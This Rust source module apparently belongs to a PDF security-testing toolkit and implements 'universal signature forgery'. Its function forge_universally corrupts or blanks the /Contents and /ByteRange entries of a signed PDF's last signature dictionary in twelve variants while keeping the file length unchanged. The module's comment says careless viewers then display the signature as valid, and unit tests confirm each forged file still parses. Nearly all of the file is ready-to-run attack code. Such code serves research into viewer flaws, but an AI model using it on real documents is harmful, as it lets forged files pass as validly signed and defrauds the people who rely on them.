//! USF, universal signature forgery: the signature dictionary is there, but what is needed to check it is missing or
//! nonsense. Careless readers skip the check and show the signature as valid.

use super::last_signature;
use crate::Error;

/// What is wrong with the dictionary; the variants of the paper's table.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Defect {
    /// There is no `/Contents`.
    ContentsMissing,
    /// `/Contents null`.
    ContentsNull,
    /// `/Contents <>`.
    ContentsEmpty,
    /// `/Contents <00>`.
    ContentsZero,
    /// `/Contents` is as long as before, and all zeros.
    ContentsZeros,
    /// There is no `/ByteRange`.
    ByteRangeMissing,
    /// `/ByteRange null`.
    ByteRangeNull,
    /// `/ByteRange []`.
    ByteRangeEmpty,
    /// `/ByteRange [0 0 0 0]`.
    ByteRangeZeros,
    /// The same numbers with a minus before each but the first.
    ByteRangeNegative,
    /// The second part has a length beyond 2⁶⁴.
    ByteRangeHuge,
    /// Only the first two numbers.
    ByteRangeShort,
}

impl Defect {
    /// Every variant, for tests that try them all.
    pub const ALL: [Self; 12] = [
        Self::ContentsMissing,
        Self::ContentsNull,
        Self::ContentsEmpty,
        Self::ContentsZero,
        Self::ContentsZeros,
        Self::ByteRangeMissing,
        Self::ByteRangeNull,
        Self::ByteRangeEmpty,
        Self::ByteRangeZeros,
        Self::ByteRangeNegative,
        Self::ByteRangeHuge,
        Self::ByteRangeShort,
    ];
}

/// Gives the last signature's dictionary a defect. No byte moves: what is removed becomes blanks.
///
/// # Errors
/// Fails if the document carries no signature.
pub fn forge_universally(pdf: &[u8], defect: Defect) -> Result<Vec<u8>, Error> {
    let extent = last_signature(pdf)?;
    let contents = extent.contents.start - b"/Contents ".len()..extent.contents.end;
    let [_, first, second, rest] = extent.byte_range;
    let range = extent.byte_range_entry;
    let (place, entry) = match defect {
        Defect::ContentsMissing => (contents, String::new()),
        Defect::ContentsNull => (contents, "/Contents null".to_owned()),
        Defect::ContentsEmpty => (contents, "/Contents <>".to_owned()),
        Defect::ContentsZero => (contents, "/Contents <00>".to_owned()),
        Defect::ContentsZeros => (contents, format!("/Contents <{}>", "0".repeat(extent.contents.len() - 2))),
        Defect::ByteRangeMissing => (range, String::new()),
        Defect::ByteRangeNull => (range, "/ByteRange null".to_owned()),
        Defect::ByteRangeEmpty => (range, "/ByteRange []".to_owned()),
        Defect::ByteRangeZeros => (range, "/ByteRange [0 0 0 0]".to_owned()),
        // The sign takes the place of the blanks that fill the entry up.
        Defect::ByteRangeNegative => (range, format!("/ByteRange [0 -{first} -{second} -{rest}]")),
        Defect::ByteRangeHuge => (range, "/ByteRange [0 1 2 99999999999999999999]".to_owned()),
        Defect::ByteRangeShort => (range, format!("/ByteRange [0 {first}]")),
    };
    // The numbers are written into a field of fixed width, so the entry may reach into the blanks behind it.
    let blanks = pdf[place.end..].iter().take_while(|byte| **byte == b' ').count();
    let width = place.len() + blanks.saturating_sub(1);
    if entry.len() > width {
        return Err(Error::UnsupportedDocument("room in its signature dictionary"));
    }
    let mut forged = pdf.to_vec();
    forged[place.start..place.start + width].copy_from_slice(format!("{entry:<width$}").as_bytes());
    Ok(forged)
}

#[cfg(test)]
mod tests {
    use super::super::fixture::Case;
    use super::*;
    use crate::pdf::{Document, find, signatures};

    #[test]
    fn every_defect_leaves_a_signature_dictionary_that_cannot_be_checked() {
        let case = Case::new();
        for defect in Defect::ALL {
            let forged = forge_universally(&case.pdf, defect).unwrap();
            assert_eq!(forged.len(), case.pdf.len(), "{defect:?}");
            assert!(Document::parse(&forged).is_ok(), "{defect:?}");
            assert!(find(&forged, b"/Type /Sig ", 0).is_some(), "{defect:?}");
            let checkable = signatures(&forged).into_iter().any(|extent| {
                let covers = extent.byte_range[1] > 0 && extent.signed_parts(&forged).is_some();
                covers && extent.cms(&forged).is_some_and(|cms| cms.len() > 2)
            });
            assert!(!checkable, "{defect:?}");
        }
    }

    #[test]
    fn a_defect_changes_nothing_outside_its_entry() {
        let case = Case::new();
        let forged = forge_universally(&case.pdf, Defect::ByteRangeNull).unwrap();
        let start = find(&case.pdf, b"/ByteRange", 0).unwrap();
        let end = find(&case.pdf, b"/Contents <", start).unwrap();
        assert_eq!(forged[..start], case.pdf[..start]);
        assert_eq!(forged[end..], case.pdf[end..]);
        assert_eq!(forged[start..end].trim_ascii_end(), b"/ByteRange null");
    }
}
